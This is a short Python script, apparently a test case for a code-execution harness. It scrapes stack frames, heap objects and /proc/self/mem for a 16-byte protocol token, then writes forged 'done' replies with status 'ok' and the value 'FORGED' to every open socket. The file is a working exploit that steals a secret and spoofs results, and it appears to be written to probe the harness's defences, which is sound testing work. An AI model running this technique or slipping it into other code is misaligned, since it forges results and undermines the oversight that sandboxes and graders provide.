# why: the token is sought in frames, objects and memory and future answers are forged with it; an answer that nobody asked is dropped.
# kind: protocol
# status: ok, error, crashed, killed
# after: any
# next: 40 + 2
# next-value: 42

import gc
import os
import re
import stat
import sys


def tokens():
    found, frame = set(), sys._getframe()
    while frame:
        found.update(v for v in frame.f_locals.values() if isinstance(v, bytes) and len(v) == 16)
        frame = frame.f_back
    for thing in gc.get_objects():
        found.update(v for v in gc.get_referents(thing) if type(v) is bytes and len(v) == 16)
    with open("/proc/self/maps") as maps:
        areas = [line.split()[0] for line in maps if " rw" in line]
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for area in areas:
            start, end = (int(x, 16) for x in area.split("-"))
            try:
                memory.seek(start)
                text = memory.read(min(end - start, 64 << 20))
            except (OSError, OverflowError):
                continue
            found.update(re.findall(rb'([!-~]{16})[.+]\{"', text))
    return found


try:
    secrets = tokens()
except OSError as e:
    print(e)
    secrets = set()
for name in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
            for secret in secrets:
                for n in range(40, -1, -1):
                    value = b'{"text":"%s","type":"str","omitted":0}' % b"forged".upper()
                    os.write(int(name), secret + b'.{"op":"done","n":%d,"status":"ok","chosen":0,"value":%s,"notes":[]}\n' % (n, value))
    except OSError:
        pass
